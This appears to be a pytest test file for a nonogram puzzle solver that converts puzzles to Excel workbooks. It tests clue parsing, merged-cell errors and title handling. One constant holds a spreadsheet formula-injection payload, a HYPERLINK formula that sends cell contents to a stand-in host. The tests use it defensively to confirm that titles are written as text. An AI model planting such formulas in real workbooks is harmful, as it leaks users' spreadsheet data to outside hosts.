"""Strict reads (a clue is a whole number; a merged grid is refused by range) and text
from a puzzle file written as text in every workbook, never as a formula."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook

from xlsolver.cli import main
from xlsolver.exits import EXIT_BAD_INPUT, EXIT_OK
from xlsolver.formats import FormatError, read_puzzles

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"
NON = "width 2\nheight 1\nrows\n{clue}\ncolumns\n1\n1\n"


@pytest.mark.parametrize("clue", ["2.9", "2-5", "2x", "²", "1" * 12, "2,", "+2"])
def test_a_non_clue_is_a_whole_number_or_an_error_naming_the_line(
    tmp_path: Path, capsys, clue: str
) -> None:
    """Case 4: ``2.9``, ``2x``, ``2-5`` are no longer read as ``2``."""
    path = tmp_path / "p.non"
    path.write_text(NON.format(clue=clue), encoding="utf-8")
    if clue == "2,":  # a trailing comma separates nothing: the clue is 2
        assert list(read_puzzles(path)[0].rows) == [(2,)]
        return
    with pytest.raises(FormatError) as err:
        read_puzzles(path)
    assert str(err.value).startswith(f"{path}:4: ")
    assert main(["solve", str(path)]) == EXIT_BAD_INPUT
    out = capsys.readouterr()
    assert out.err.startswith(f"xlsolver: {path}:4: ") and out.err.count("\n") == 1
    assert out.out == ""


@pytest.mark.parametrize(
    ("name", "text", "line"),
    [
        ("p.nin", "2 1\n2.9\n1\n1\n", 2),
        ("p.nin", "2 1\n²\n1\n1\n", 2),
        (
            "p.xml",
            "<puzzleset><puzzle><clues type='columns'><line><count>²</count></line>"
            "</clues><clues type='rows'><line><count>1</count></line></clues>"
            "</puzzle></puzzleset>",
            1,
        ),
    ],
)
def test_other_formats_take_ascii_whole_numbers(tmp_path: Path, name, text, line) -> None:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    with pytest.raises(FormatError, match=r"is not a number") as err:
        read_puzzles(path)
    assert err.value.line == line


def test_a_merged_grid_is_refused_by_range(tmp_path: Path, capsys) -> None:
    """Case 4: a merged range over the grid is an error naming it, nothing painted."""
    book = tmp_path / "merged.xlsx"
    assert main(["convert", str(EXAMPLES / "dancer.non"), "-o", str(book)]) == EXIT_OK
    capsys.readouterr()
    from xlsolver.sheets.openpyxl_sheet import open_book
    from xlsolver.workbook.layout import find_puzzles

    found = find_puzzles(open_book(book))[0]
    top, left = found.grid[:2]
    wb = load_workbook(book)
    wb.active.merge_cells(start_row=top, start_column=left, end_row=top + 1, end_column=left + 1)
    wb.save(book)
    from xlsolver.workbook.address import rect_ref

    merged = rect_ref((top, left, top + 1, left + 1))
    for argv in (
        ["solve", str(book), "-o", str(tmp_path / "out.xlsx")],
        ["convert", str(book), "-o", str(tmp_path / "out.non")],
    ):
        assert main(argv) == EXIT_BAD_INPUT
        err = capsys.readouterr().err
        assert err.startswith(f"xlsolver: {book}: ") and err.count("\n") == 1, err
        assert f"!{merged}: merged cells over the grid" in err
    assert not (tmp_path / "out.xlsx").exists() and not (tmp_path / "out.non").exists()


HOSTILE = '=HYPERLINK("http://example.invalid/?"&A2, "click")'


@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
def test_titles_from_files_are_written_as_text(tmp_path: Path, lead: str) -> None:
    """Case 6: a title starting with = + - @ is a text cell in the workbook convert writes."""
    title = lead + HOSTILE[1:]
    source = tmp_path / "evil.non"
    text = (EXAMPLES / "dancer.non").read_text().replace("title", "title_old", 1)
    source.write_text(f'title "{title}"\nby "{title}"\n' + text)
    out = tmp_path / "evil.xlsx"
    assert main(["convert", str(source), "-o", str(out)]) == EXIT_OK
    wb = load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    titled = [c for c in cells if c.value == title]
    assert titled, "the title is written somewhere"
    assert all(c.data_type == "s" for c in titled)
    for ws in wb.worksheets:
        assert not ws.title.startswith(("=", "+", "-", "@"))
    # none of our own formulas mentions the hostile text
    assert not [c for c in cells if c.data_type == "f" and "HYPERLINK" in str(c.value)]


def test_teaching_and_hints_workbooks_keep_titles_as_text(tmp_path: Path, capsys) -> None:
    """make / hints write the title of a drawing or puzzle: text there too."""
    source = tmp_path / "evil.non"
    text = (EXAMPLES / "dancer.non").read_text().replace("title", "title_old", 1)
    source.write_text(f'title "{HOSTILE}"\n' + text)
    book = tmp_path / "evil.xlsx"
    assert main(["convert", str(source), "-o", str(book)]) == EXIT_OK
    hints = tmp_path / "hints.xlsx"
    code = main(["hints", str(book), "-o", str(hints)])
    capsys.readouterr()
    if code != EXIT_OK:
        pytest.skip("hints did not write a workbook for this puzzle")
    wb = load_workbook(hints)
    formulas = [
        c.value
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f" and "HYPERLINK" in str(c.value)
    ]
    assert formulas == []


@pytest.mark.parametrize("value", ["=1+1", "=A1", "a", "-", "3.5", " ", "1 x"])
def test_odd_clue_cells_are_one_line_naming_the_file(tmp_path: Path, capsys, value) -> None:
    """Case 3: a formula or short text in a clue cell is one line (file first), exit 2."""
    book = tmp_path / "odd.xlsx"
    assert main(["convert", str(EXAMPLES / "dancer.non"), "-o", str(book)]) == EXIT_OK
    from xlsolver.sheets.openpyxl_sheet import open_book
    from xlsolver.workbook.layout import find_puzzles

    found = find_puzzles(open_book(book))[0]
    top, _, _, right = found.row_clue_cells[0]
    wb = load_workbook(book)
    wb.active.cell(top, right).value = value
    wb.save(book)
    capsys.readouterr()
    for argv in (
        ["solve", str(book)],
        ["check", str(book)],
        ["convert", str(book), "-o", str(tmp_path / "o.non")],
    ):
        code = main(argv)
        err = capsys.readouterr().err
        assert code in (EXIT_BAD_INPUT, 1), (argv, err)
        if code == EXIT_BAD_INPUT:
            lines = [x for x in err.splitlines() if not x.startswith("(nothing written")]
            assert len(lines) == 1 and lines[0].startswith(f"xlsolver: {book}: "), err
        assert "Traceback" not in err
